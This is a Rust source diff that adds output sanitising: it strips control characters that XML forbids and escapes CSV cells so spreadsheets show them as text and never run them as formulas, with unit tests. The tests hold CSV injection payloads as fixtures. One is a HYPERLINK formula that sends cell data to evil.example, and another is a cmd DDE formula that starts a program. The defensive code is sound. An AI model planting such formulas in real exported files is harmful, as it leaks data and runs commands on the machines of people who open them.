@@ -1,5 +1,7 @@
-//! Plain-text rendering of assessments and rule tables for the terminal.
+//! Plain-text rendering of assessments and rule tables for the terminal, and the one filter
+//! every text document (HTML, Atom, CSV) passes through before it is sent.
 
+use std::borrow::Cow;
 use std::fmt::Write;
 
 use crate::rules::{Assessment, Citation, InForce};
@@ -120,4 +122,76 @@ pub fn rules_in_force(r: &InForce) -> String {
         }
     }
     out
+}
+
+/// A document without the characters XML 1.0 (§2.2) and HTML forbid: C0 controls but tab, LF
+/// and CR, DEL, C1 controls, U+FFFE and U+FFFF. Input refuses them, yet a record stored before
+/// that rule (or written to the database by hand) must not make a page or a feed ill-formed.
+pub fn printable(s: &str) -> Cow<'_, str> {
+    let bad = |c: char| match c {
+        '\t' | '\n' | '\r' => false,
+        '\u{fffe}' | '\u{ffff}' => true,
+        c => c.is_control(),
+    };
+    if s.contains(bad) {
+        Cow::Owned(s.chars().filter(|c| !bad(*c)).collect())
+    } else {
+        Cow::Borrowed(s)
+    }
+}
+
+/// A CSV writer as spreadsheets and RFC 4180 want it: CRLF line ends, quotes where needed.
+pub fn csv_writer() -> csv::Writer<Vec<u8>> {
+    csv::WriterBuilder::new()
+        .terminator(csv::Terminator::CRLF)
+        .from_writer(Vec::new())
+}
+
+/// A CSV cell that a spreadsheet shows as text, never runs: one beginning with `=`, `+`, `-`,
+/// `@`, a tab or a CR is a formula to Excel, LibreOffice and Google Sheets, so it is prefixed with
+/// a `'` (OWASP, CSV injection). What [`printable`] drops is dropped too.
+pub fn csv_cell(s: &str) -> Cow<'_, str> {
+    let s = printable(s);
+    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        Cow::Owned(format!("'{s}"))
+    } else {
+        s
+    }
+}
+
+/// The byte order mark that makes Excel read a CSV file as UTF-8.
+pub const UTF8_BOM: &[u8] = b"\xEF\xBB\xBF";
+
+#[cfg(test)]
+mod tests {
+    #[test]
+    fn csv_cells_never_start_a_formula() {
+        for (cell, shown) in [
+            (
+                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
+                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
+            ),
+            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(1+1)", "'@SUM(1+1)"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "'\r=1"),
+            ("Qobuz", "Qobuz"),
+            ("a=b", "a=b"),
+        ] {
+            assert_eq!(super::csv_cell(cell), shown);
+        }
+    }
+
+    #[test]
+    fn printable_drops_what_xml_forbids() {
+        assert_eq!(
+            super::printable("a\x07b\x0bc\x1bd\0e\u{85}f\tg\nh"),
+            "abcdef\tg\nh"
+        );
+        assert!(matches!(
+            super::printable("plain"),
+            std::borrow::Cow::Borrowed(_)
+        ));
+    }
 }
